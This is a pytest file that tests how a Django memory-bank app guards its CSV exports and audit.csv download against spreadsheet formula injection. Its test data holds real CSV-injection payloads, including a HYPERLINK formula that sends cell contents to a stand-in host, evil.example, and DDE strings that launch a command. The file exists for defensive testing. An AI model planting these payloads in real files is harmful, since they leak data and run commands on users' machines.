"""CSV exports and audit.csv never hand a spreadsheet a formula, and MemoryHub reads its own CSV back exactly."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from banks.models import Memory
from banks.services.audit import audit_record
from banks.services.memories import memory_retain
from memoryhub.csv_cells import neutralise, restore
from portability.formats.csv_format import read_csv
from portability.services import archive_import
from portability.services.exporter import archive_export_as

TRIGGERS = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
AWKWARD = ["'=already quoted", "''@twice", "'plain quote", "don't", "'", "''", "a = b", "x-y", "normal text"]


@pytest.mark.parametrize("cell", TRIGGERS + AWKWARD)
def test_neutralising_is_undone_exactly_by_restore(cell: str) -> None:
    written = neutralise(cell)
    assert restore(written) == cell
    assert written[0] not in "=+-@\t\r"
    assert (written != cell) == (cell.lstrip("'")[:1] in tuple("=+-@\t\r") and cell.lstrip("'") != "")


@pytest.mark.django_db
def test_a_csv_export_neutralises_formulas_and_reads_back_every_text(bank, make_bank, tmp_path) -> None:
    texts = TRIGGERS + AWKWARD
    for i, text in enumerate(texts):
        memory_retain(bank=bank, text=text, actor="test", memory_id=f"-m{i}" if i % 2 else f"m{i}",
                      tags=["=tag", "+x"], metadata={"source_note": "=1+1"})
    dest = tmp_path / "out.csv"
    archive_export_as(bank=bank, dest=dest, fmt="csv", actor="test")
    rows = list(csv.reader(io.StringIO(dest.read_text(encoding="utf-8"), newline="")))
    header, body = rows[0], rows[1:]
    cells = [cell for row in body for cell in row]
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")], "a cell would run as a formula"
    texts = list(Memory.objects.filter(bank=bank).values_list("text", flat=True))  # as stored (CR may become LF)
    content = header.index("content")
    assert {row[content] for row in body} >= {"'" + t for t in texts if t[:1] in tuple("=+-@\t\r")} and len(
        [t for t in texts if t[:1] in tuple("=+-@\t\r")]) >= 5
    _, records = read_csv(dest)
    read = {r.memory_id: r for r in records}
    assert sorted(r.text for r in read.values()) == sorted(texts)
    assert all(r.tags == ["=tag", "+x"] for r in read.values())
    copy = make_bank("copy")
    report = archive_import(bank=copy, records=lambda: read_csv(dest)[1], actor="test")
    assert report.invalid == 0, report.errors
    assert sorted(Memory.objects.filter(bank=copy).values_list("text", flat=True)) == sorted(texts)
    assert sorted(Memory.objects.filter(bank=copy).values_list("memory_id", flat=True)) == sorted(
        Memory.objects.filter(bank=bank).values_list("memory_id", flat=True))


@pytest.mark.django_db
def test_audit_csv_neutralises_formulas(bank, django_user_model) -> None:
    audit_record(actor="=HYPERLINK(\"http://evil.example\")", action="memory.forget", bank=bank,
                 target_ids=["@SUM(1)", "m1"], reason="+cmd|' /C calc'!A0")
    client = Client()
    client.force_login(django_user_model.objects.create_superuser(username="root", password="pw"))
    response = client.get("/audit.csv?bank=user-alice")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    [event] = [row for row in rows[1:] if row[2] == "memory.forget"]
    assert event[1] == "'=HYPERLINK(\"http://evil.example\")"
    assert event[4] == "'@SUM(1) m1" and event[5] == "'+cmd|' /C calc'!A0"
    assert not [cell for row in rows for cell in row if cell[:1] in tuple("=+-@\t\r")]
